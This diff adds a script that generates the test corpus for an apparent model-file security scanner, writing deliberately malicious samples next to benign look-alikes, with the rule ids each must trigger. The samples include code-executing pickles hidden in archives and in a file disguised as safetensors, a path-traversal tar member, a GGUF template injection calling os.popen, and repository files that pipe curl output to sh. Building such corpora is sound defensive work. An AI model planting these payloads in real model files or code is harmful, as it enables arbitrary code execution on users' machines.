@@ -1,0 +1,181 @@
+"""Write the scanner's corpus: malicious samples for the rules the reader
+corpora (tests/data/<format>/malicious) do not already cover, and benign
+look-alikes that must stay clean. Written with the real writers: pickle,
+zipfile, tarfile, gzip, zlib, numpy, gguf. tests/data/scan/expected.json
+maps every sample (here and in the reader corpora) to the rule ids the
+scanner must report; benign samples map to [].
+
+    ~/.cache/modelgate/venv/bin/python scripts/testdata/make_scan_corpus.py
+"""
+import collections
+import gzip
+import io
+import json
+import os
+import pickle
+import shutil
+import tarfile
+import zipfile
+import zlib
+
+import gguf
+import numpy as np
+
+HERE = os.path.dirname(__file__)
+DATA = os.path.join(HERE, "..", "..", "tests", "data")
+ROOT = os.path.join(DATA, "scan")
+
+
+class Exec:
+    """Pickles as a call to an arbitrary callable."""
+
+    def __init__(self, func, *args):
+        self.func, self.args = func, args
+
+    def __reduce__(self):
+        return (self.func, self.args)
+
+
+def w(sub, name, data):
+    path = os.path.join(ROOT, sub, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    open(path, "wb").write(data)
+    return f"scan/{sub}/{name}"
+
+
+def gguf_with_template(path, template):
+    writer = gguf.GGUFWriter(path, "llama")
+    writer.add_chat_template(template)
+    writer.add_tensor("w", np.zeros((4, 8), dtype=np.float32))
+    writer.write_header_to_file()
+    writer.write_kv_data_to_file()
+    writer.write_tensors_to_file()
+    writer.close()
+
+
+def main():
+    shutil.rmtree(ROOT, ignore_errors=True)
+    expected = {}
+    import os as _os, subprocess, builtins, runpy, webbrowser, operator, functools, importlib, timeit, pdb, socket, shutil as _sh
+    # Pickle families, written by CPython's pickle through __reduce__.
+    for name, obj, protocol in [
+        ("eval.pkl", Exec(builtins.eval, "1+1"), 2),
+        ("exec_proto0.pkl", Exec(builtins.exec, "print(1)"), 0),
+        ("subprocess.pkl", Exec(subprocess.check_output, ["id"]), 4),
+        ("runpy.pkl", Exec(runpy.run_path, "/tmp/x.py"), 3),
+        ("webbrowser.pkl", Exec(webbrowser.open, "http://example.com"), 2),
+        ("operator_attrgetter.pkl", Exec(operator.attrgetter, "system"), 4),
+        ("functools_partial.pkl", Exec(functools.partial, print, "x"), 4),
+        ("importlib.pkl", Exec(importlib.import_module, "os"), 4),
+        ("timeit.pkl", Exec(timeit.timeit, "print(1)"), 4),
+        ("pdb.pkl", Exec(pdb.run, "print(1)"), 2),
+        ("socket.pkl", Exec(socket.create_connection, ("example.com", 80)), 2),
+        ("shutil.pkl", Exec(_sh.rmtree, "/tmp/x"), 2),
+        ("getattr.pkl", Exec(builtins.getattr, "text", "upper"), 2),
+    ]:
+        expected[w("malicious", name, pickle.dumps(obj, protocol=protocol))] = ["pickle.dangerous-import"]
+    # Unknown import: medium.
+    expected[w("malicious", "unknown_import.pkl", b"\x80\x02cmy_lib.layers\nCustom\n)R.")] = ["pickle.unknown-import"]
+    # Extension registry.
+    expected[w("malicious", "ext.pkl", b"\x80\x02\x82\x01)R.")] = ["pickle.extension-registry"]
+    # Garbage after a valid pickle: fail closed.
+    expected[w("malicious", "trailing_garbage.pkl", pickle.dumps([1, 2], protocol=2) + b"\xffgarbage")] = ["pickle.unparseable"]
+
+    evil = pickle.dumps(Exec(_os.system, "id"), protocol=2)
+    # PyTorch zip with an extra pickle member hiding the payload, under an odd folder name.
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("weird_name/data.pkl", pickle.dumps(collections.OrderedDict(a=1), protocol=2))
+        z.writestr("weird_name/extra/hidden.pkl", evil)
+        z.writestr("weird_name/version", "3")
+    expected[w("malicious", "torch_hidden_member.pt", buf.getvalue())] = ["pickle.dangerous-import"]
+    # Compressed pickles, as joblib writes them (zlib, gzip) and a tar of them.
+    expected[w("malicious", "model.joblib", zlib.compress(evil))] = ["pickle.dangerous-import"]
+    expected[w("malicious", "model.pkl.gz", gzip.compress(evil, mtime=0))] = ["pickle.dangerous-import"]
+    tbuf = io.BytesIO()
+    with tarfile.open(fileobj=tbuf, mode="w") as t:
+        for member, data in [("model/weights.pkl", evil), ("../escape.txt", b"x")]:
+            info = tarfile.TarInfo(member)
+            info.size, info.mtime = len(data), 0
+            t.addfile(info, io.BytesIO(data))
+    expected[w("malicious", "bundle.tar", tbuf.getvalue())] = ["pickle.dangerous-import", "archive.traversal"]
+    # A zip nested in a zip, with the payload inside.
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as z:
+        z.writestr("payload.pkl", evil)
+    outer = io.BytesIO()
+    with zipfile.ZipFile(outer, "w") as z:
+        z.writestr("inner.zip", inner.getvalue())
+    expected[w("malicious", "nested.zip", outer.getvalue())] = ["pickle.dangerous-import"]
+    # Extension lies: a pickle named .safetensors.
+    expected[w("malicious", "disguised.safetensors", evil)] = ["pickle.dangerous-import"]
+    # GGUF chat template injection.
+    gguf_with_template(os.path.join(ROOT, "malicious", "ssti.gguf"),
+                       "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
+    expected["scan/malicious/ssti.gguf"] = ["template.dunder-access", "template.gadget-access"]
+    # A Hugging Face repository with custom code and an executable.
+    repo = "remote_code_repo"
+    w("malicious", f"{repo}/config.json", json.dumps({"architectures": ["X"], "auto_map": {"AutoModel": "modeling_x.XModel"}}).encode())
+    w("malicious", f"{repo}/modeling_x.py", b"import os\nimport subprocess\n\ndef setup():\n    os.system('curl http://x | sh')\n    subprocess.run(['id'])\n")
+    w("malicious", f"{repo}/tokenizer_config.json", json.dumps({"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}).encode())
+    w("malicious", f"{repo}/install.sh", b"#!/bin/sh\ncurl http://example.com | sh\n")
+    expected[f"scan/malicious/{repo}/config.json"] = ["hf.remote-code"]
+    expected[f"scan/malicious/{repo}/modeling_x.py"] = ["hf.custom-code", "code.process"]
+    expected[f"scan/malicious/{repo}/tokenizer_config.json"] = ["template.dunder-access"]
+    expected[f"scan/malicious/{repo}/install.sh"] = ["hf.executable"]
+    # Unknown format behind a model extension.
+    expected[w("malicious", "mystery.bin", b"\x00\x01\x02 this is not a model format")] = ["format.unknown"]
+
+    # Benign look-alikes: must stay clean.
+    state = collections.OrderedDict(weight=np.zeros((2, 2), dtype=np.float32), step=3)
+    expected[w("benign", "numpy_state.pkl", pickle.dumps(state, protocol=4))] = []
+    expected[w("benign", "plain_data.pkl", pickle.dumps({"a": [1, 2.5, "x", (1, 2)], "b": {1, 2}, "c": b"bytes"}, protocol=5))] = []
+    expected[w("benign", "plain_data.pkl.gz", gzip.compress(pickle.dumps([1, 2, 3]), mtime=0))] = []
+    gguf_with_template(os.path.join(ROOT, "benign", "chatml.gguf"),
+                       "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
+    expected["scan/benign/chatml.gguf"] = []
+    np.save(os.path.join(ROOT, "benign", "array.npy"), np.arange(10))
+    expected["scan/benign/array.npy"] = []
+
+    # Reader corpora that double as scanner samples.
+    expected.update({
+        "pickle/malicious/global_reduce.pkl": ["pickle.dangerous-import"],
+        "pickle/malicious/inst.pkl": ["pickle.dangerous-import"],
+        "pickle/malicious/obj.pkl": ["pickle.dangerous-import"],
+        "pickle/malicious/stack_global_memo.pkl": ["pickle.dangerous-import"],
+        "pickle/malicious/stack_global_dynamic.pkl": ["pickle.dynamic-import"],
+        "pickle/malicious/build_setattr.pkl": ["pickle.dangerous-import"],
+        "pickle/malicious/second_pickle.pkl": ["pickle.dangerous-import"],
+        "pickle/malicious/newobj_ex.pkl": ["pickle.dangerous-import"],
+        "archive/malicious/traversal.zip": ["archive.traversal"],
+        "archive/malicious/duplicate.zip": ["archive.duplicate-member"],
+        "archive/malicious/mismatch.zip": ["archive.header-mismatch"],
+        "archive/malicious/encrypted.zip": ["archive.unusual-flags"],
+        "archive/malicious/symlink.tar": ["archive.link"],
+        "archive/malicious/bomb.gz": ["format.limit-exceeded"],
+        "archive/malicious/bomb.zip": ["format.limit-exceeded"],
+        "numpy/malicious/object.npy": ["numpy.object-array"],
+        "numpy/malicious/object.npz": ["numpy.object-array"],
+        "keras/malicious/lambda.keras": ["keras.lambda-layer", "keras.custom-object"],
+        "keras/malicious/lambda.h5": ["keras.lambda-layer", "keras.custom-object"],
+        "onnx/malicious/external_traversal.onnx": ["onnx.external-data-escape"],
+        "onnx/ok/custom.onnx": ["onnx.custom-domain"],
+        "safetensors/malicious/overlap.safetensors": ["safetensors.structure"],
+        "safetensors/malicious/gap.safetensors": ["safetensors.structure"],
+        "safetensors/malicious/size_mismatch.safetensors": ["safetensors.structure"],
+        "safetensors/malicious/out_of_range.safetensors": ["safetensors.structure"],
+        "gguf/err/truncated_data.gguf": ["gguf.structure"],
+        "pytorch/ok/archive.pt": [],
+        "pytorch/ok/legacy.pt": [],
+        "pytorch/ok/legacy.tar": [],
+        "safetensors/ok/numpy.safetensors": [],
+        "onnx/ok/mlp.onnx": [],
+        "keras/ok/sequential.keras": [],
+        "numpy/ok/compressed.npz": [],
+        "gguf/ok/quantized.gguf": [],
+    })
+    json.dump(expected, open(os.path.join(ROOT, "expected.json"), "w"), indent=1, sort_keys=True)
+
+
+if __name__ == "__main__":
+    main()
